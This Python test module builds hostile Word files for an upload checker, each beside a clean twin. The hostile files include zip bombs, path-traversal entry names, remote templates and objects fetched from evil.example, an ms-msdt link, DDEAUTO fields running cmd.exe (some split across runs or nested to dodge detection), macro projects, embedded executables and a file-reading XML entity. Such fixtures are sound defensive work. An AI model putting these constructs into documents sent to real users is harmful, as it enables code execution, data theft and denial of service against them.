"""Attacks on whoever opens an uploaded Word file, by kind, each beside its clean twin: the file without the sting."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from tests.document_templates.word_files import (
    body,
    parts,
    picture,
    rebuilt,
    template,
    with_paragraph_xml,
    with_relationship,
)

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PNG = picture()


class Attack(NamedTuple):
    """Both are made when asked for: some are large."""

    hostile: Callable[[], bytes]
    clean: Callable[[], bytes]


def plain() -> bytes:
    return template("x")


# --- archive ----------------------------------------------------------------------------------------------------------


def with_members(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO(plain())
    with zipfile.ZipFile(stream, "a", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return stream.getvalue()


def zip_of(data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("x", data)
    return stream.getvalue()


def lying(size: int, said: int) -> bytes:
    return with_members(("word/big.xml", b" " * size)).replace(struct.pack("<L", size), struct.pack("<L", said))


def overlapping() -> bytes:
    """Two entries that share their bytes, as the densest bombs do."""
    document = with_members(("word/a.bin", bytes(60)), ("word/b.bin", bytes(60)))
    first = document.index(b"PK\x03\x04", document.index(b"word/a.bin") - 40)
    at = document.rindex(b"word/b.bin") - 46
    return document[: at + 42] + struct.pack("<L", first) + document[at + 46 :]


def flagged(bit: int) -> bytes:
    at = plain().rindex(b"PK\x01\x02")
    return plain()[: at + 8] + struct.pack("<H", bit) + plain()[at + 10 :]


ARCHIVE = {
    "a bomb of many parts": Attack(
        lambda: with_members(*((f"word/{n}.xml", bytes(1 << 20)) for n in range(90))),
        lambda: with_members(*((f"word/{n}.bin", bytes(1 << 10)) for n in range(90))),
    ),
    "a bomb of one part": Attack(
        lambda: with_members(("word/a.bin", bytes(45 << 20))), lambda: with_members(("word/a.bin", bytes(1 << 20)))
    ),
    "blanks that shrink to nothing": Attack(
        lambda: with_members(("word/a.xml", b"<x>" + b" " * (30 << 20) + b"</x>")),
        lambda: with_members(("word/a.xml", b"<x>" + b" " * 1000 + b"</x>")),
    ),
    "sizes that lie downwards": Attack(lambda: lying(50 << 20, 100), lambda: with_members(("word/big.bin", b" " * 99))),
    "sizes that lie upwards": Attack(lambda: lying(1000, 3 << 30), lambda: with_members(("word/big.bin", b" " * 1000))),
    "1,001 entries": Attack(
        lambda: with_members(*((f"word/{n}.bin", b"") for n in range(1001))),
        lambda: with_members(*((f"word/{n}.bin", b"") for n in range(900))),
    ),
    "entries that overlap": Attack(
        overlapping, lambda: with_members(("word/a.bin", bytes(60)), ("word/b.bin", bytes(60)))
    ),
    "an archive in the archive": Attack(
        lambda: with_members(("word/media/a.png", zip_of(b"x"))), lambda: with_members(("word/media/a.png", PNG))
    ),
    "a packed archive by another name": Attack(
        lambda: with_members(("word/media/a.bin", b"\x1f\x8b\x08" + zlib.compress(b"x"))),
        lambda: with_members(("word/media/a.bin", b"x")),
    ),
    "a path upwards": Attack(
        lambda: with_members(("../../a.xml", b"<x/>")), lambda: with_members(("word/a.xml", b"<x/>"))
    ),
    "a path with a drive": Attack(
        lambda: with_members(("C:/a.xml", b"<x/>")), lambda: with_members(("c/a.xml", b"<x/>"))
    ),
    "a path with backslashes": Attack(
        lambda: with_members(("word\\..\\..\\a.xml", b"<x/>")), lambda: with_members(("word/b.xml", b"<x/>"))
    ),
    "two parts of one name": Attack(
        lambda: with_members(("word/Document.xml", b"<x/>")), lambda: with_members(("word/document2.xml", b"<x/>"))
    ),
    "an encrypted part": Attack(lambda: flagged(1), lambda: flagged(0)),
    "an unusual packing": Attack(
        lambda: with_members(("word/a.bin", b"x" * 99), method=zipfile.ZIP_BZIP2),
        lambda: with_members(("word/a.bin", b"x" * 99), method=zipfile.ZIP_STORED),
    ),
    "cut off": Attack(lambda: plain()[: len(plain()) * 9 // 10], plain),
    "a part that is damaged": Attack(
        lambda: plain().replace(parts_packed("word/styles.xml"), bytes(len(parts_packed("word/styles.xml")))), plain
    ),
}


def parts_packed(name: str) -> bytes:
    document = plain()
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        entry = archive.getinfo(name)
    start = entry.header_offset + 30 + len(name)
    return document[start : start + entry.compress_size]


# --- relationships ----------------------------------------------------------------------------------------------------


def related(kind: str, target: str, *, outside: bool = True, space: str = OFFICE) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return with_relationship(plain(), f'<Relationship Id="rIdX" Type="{space}/{kind}" Target="{target}"{mode}/>')


def _fetched(kind: str, target: str, space: str = OFFICE) -> Attack:
    return Attack(lambda: related(kind, target, space=space), lambda: related("hyperlink", "https://example.ca"))


RELATIONSHIP = {
    "an attached template": _fetched("attachedTemplate", "https://evil.example/t.dotm"),
    "a template on a share": _fetched("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
    "a remote picture": Attack(
        lambda: related("image", "https://evil.example/p.png"),
        lambda: rebuilt(related("image", "media/p.png", outside=False), {"word/media/p.png": PNG}),
    ),
    "a remote picture on a share": _fetched("image", "file://evil.example/p.png"),
    "a remote object": _fetched("oleObject", "https://evil.example/o"),
    "a frame": _fetched("frame", "https://evil.example/f.html"),
    "a remote sub-document": _fetched("subDocument", "https://evil.example/d.docx"),
    "another document inside": Attack(
        lambda: rebuilt(related("aFChunk", "a.html", outside=False), {"word/a.html": b"<html/>"}),
        lambda: rebuilt(related("customXml", "a.xml", outside=False), {"word/a.xml": b"<a/>"}),
    ),
    "a link to a file": _fetched("hyperlink", "file:///etc/passwd"),
    "a link to a share": _fetched("hyperlink", "\\\\host\\share"),
    "a link that runs a script": _fetched("hyperlink", "javascript:alert(1)"),
    "a link to a help protocol": _fetched("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link to an archive of pages": _fetched("hyperlink", "mhtml:https://evil.example/x"),
    "a mail merge": _fetched("mailMergeSource", "file:///c:/list.mdb"),
    "a remote font": _fetched("font", "https://evil.example/f.odttf"),
    "a remote sound": _fetched("audio", "https://evil.example/a.wav"),
}

# --- fields -----------------------------------------------------------------------------------------------------------


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def mark(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def code(text: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def words(text: str) -> str:
    return run(f"<w:t>{text}</w:t>")


def paragraphs(*inner: str) -> bytes:
    return with_paragraph_xml(plain(), "".join(f"<w:p>{one}</w:p>" for one in inner))


def field(*codes: str) -> bytes:
    return paragraphs(mark("begin") + "".join(map(code, codes)) + mark("separate") + words("x") + mark("end"))


def nested(*inner: str, before: str = "", after: str = "") -> bytes:
    """A field whose code is made by the results of fields inside it."""
    made = "".join(mark("begin") + code(' QUOTE "x" ') + mark("separate") + words(one) + mark("end") for one in inner)
    return paragraphs(mark("begin") + code(before) + made + code(after) + mark("separate") + words("x") + mark("end"))


def _field(*codes: str) -> Attack:
    return Attack(lambda: field(*codes), lambda: field(" PAGE "))


FIELD = {
    "DDEAUTO": _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "DDE": _field(" DDE Excel x "),
    "DDE in small letters": _field(" ddeauto cmd "),
    "INCLUDETEXT": _field(" INCLUDETEXT \\\\\\\\host\\\\share\\\\x.docx "),
    "INCLUDEPICTURE": _field(' INCLUDEPICTURE "https://evil.example/p.png" \\d '),
    "LINK": _field(" LINK Excel.Sheet.8 c:\\\\x.xls "),
    "IMPORT": _field(" IMPORT x "),
    "DATABASE": _field(" DATABASE \\d c:\\\\x.mdb "),
    "MACROBUTTON": _field(" MACROBUTTON AutoOpen click "),
    "a name split over runs": _field(" DD", "EAU", "TO cmd "),
    "a name split over paragraphs": Attack(
        lambda: paragraphs(mark("begin") + code(" DDE"), code("AUTO cmd ") + mark("separate"), mark("end")),
        lambda: paragraphs(mark("begin") + code(" PA"), code("GE ") + mark("separate"), mark("end")),
    ),
    "a simple field": Attack(
        lambda: paragraphs('<w:fldSimple w:instr=" DDEAUTO cmd "/>'),
        lambda: paragraphs('<w:fldSimple w:instr=" PAGE "/>'),
    ),
    "a name made by a field inside": Attack(
        lambda: nested("DDEAUTO", after=" cmd "), lambda: nested("x", before=" IF 1 = 1 ", after=' "y" ')
    ),
    "a name made by two fields inside": Attack(
        lambda: nested("DDE", "AUTO", after=" cmd "), lambda: nested("x", "y", before=" IF 1 = 1 ", after=' "y" ')
    ),
    "a name made by its start and a field inside": Attack(
        lambda: nested("AUTO", before=" DDE", after=" cmd "), lambda: nested("x", before=" IF 1 = 1 ", after=' "y" ')
    ),
    "a name made by character codes": Attack(
        lambda: paragraphs(
            mark("begin") + mark("begin") + code(" QUOTE 68 68 69 ") + mark("end") + code(" cmd ") + mark("end")
        ),
        lambda: field(" QUOTE 82 "),
    ),
    "a name in a bookmark asked for": Attack(
        lambda: nested("DDEAUTO cmd"), lambda: paragraphs(mark("begin") + code(" REF here ") + mark("end"))
    ),
    "a field that never ends": Attack(
        lambda: paragraphs(mark("begin") + code(" DDEAUTO cmd ")), lambda: field(" NUMPAGES ")
    ),
    "in a header": Attack(lambda: in_header(" DDEAUTO cmd "), lambda: in_header(" PAGE ")),
}


def in_header(what: str) -> bytes:
    document = template("x", build=lambda one: setattr(one.sections[0].header.paragraphs[0], "text", "here"))
    header = parts(document)["word/header1.xml"].decode()
    inner = mark("begin") + code(what) + mark("separate") + words("1") + mark("end")
    return rebuilt(document, {"word/header1.xml": header.replace("</w:p>", f"{inner}</w:p>", 1).encode()})


# --- macros and what else runs ----------------------------------------------------------------------------------------


def retyped(old: str, new: str) -> bytes:
    types = parts(plain())["[Content_Types].xml"].decode().replace(old, new)
    return rebuilt(plain(), {"[Content_Types].xml": types.encode()})


def declared(name: str, kind: str, data: bytes = b"<x/>") -> bytes:
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return rebuilt(retyped("</Types>", override), {name: data})


def _carries(name: str, data: bytes) -> Attack:
    return Attack(lambda: rebuilt(plain(), {name: data}), lambda: rebuilt(plain(), {"word/media/a.png": PNG}))


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MACRO = {
    "a document with macros": Attack(
        lambda: retyped(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"), plain
    ),
    "a template with macros": Attack(
        lambda: retyped(MAIN, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), plain
    ),
    "a project of macros": _carries("word/vbaProject.bin", OLD_OFFICE),
    "a project by another name": Attack(
        lambda: declared("word/x.bin", "application/vnd.ms-office.vbaProject"),
        lambda: declared("word/x.xml", "application/xml"),
    ),
    "a project by its relationship": Attack(
        lambda: rebuilt(related("vbaProject", "x.bin", outside=False, space=MICROSOFT), {"word/x.bin": b"x"}),
        lambda: rebuilt(related("customXml", "x.xml", outside=False), {"word/x.xml": b"<x/>"}),
    ),
    "data of macros": _carries("word/vbaData.xml", b"<x/>"),
    "a control": _carries("word/activeX/activeX1.bin", OLD_OFFICE),
    "a control in the text": Attack(
        lambda: paragraphs(run('<w:object><w:control w:name="x"/></w:object>')), lambda: paragraphs(words("x"))
    ),
    "a custom menu": _carries("customUI/customUI.xml", b"<customUI/>"),
    "keys of its own": Attack(
        lambda: rebuilt(
            related("keyMapCustomizations", "c.xml", outside=False, space=MICROSOFT), {"word/c.xml": b"<x/>"}
        ),
        lambda: rebuilt(related("customXml", "c.xml", outside=False), {"word/c.xml": b"<x/>"}),
    ),
    "an embedded object": _carries("word/embeddings/oleObject1.bin", OLD_OFFICE),
    "an embedded program": _carries("word/embeddings/a.bin", b"MZ\x90\x00" + bytes(100)),
    "an embedded script": _carries("word/embeddings/a.js", b"alert(1)"),
    "a shortcut": _carries("word/embeddings/a.lnk", b"L\x00"),
    "an embedded document": _carries("word/embeddings/a.docx", b"PK\x03\x04"),
    "an add-in": Attack(
        lambda: rebuilt(related("webextension", "e.xml", outside=False), {"word/e.xml": b"<x/>"}),
        lambda: rebuilt(related("customXml", "e.xml", outside=False), {"word/e.xml": b"<x/>"}),
    ),
    "entities that multiply": Attack(
        lambda: rebuilt(
            plain(),
            {"word/document.xml": body(plain()).replace("<w:doc", '<!DOCTYPE x [<!ENTITY a "b">]><w:doc', 1).encode()},
        ),
        plain,
    ),
    "an entity from a file": Attack(
        lambda: rebuilt(plain(), {"customXml/item1.xml": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
        lambda: rebuilt(plain(), {"customXml/item1.xml": b"<x/>"}),
    ),
}

KINDS = {"archive": ARCHIVE, "relationship": RELATIONSHIP, "field": FIELD, "macro": MACRO}
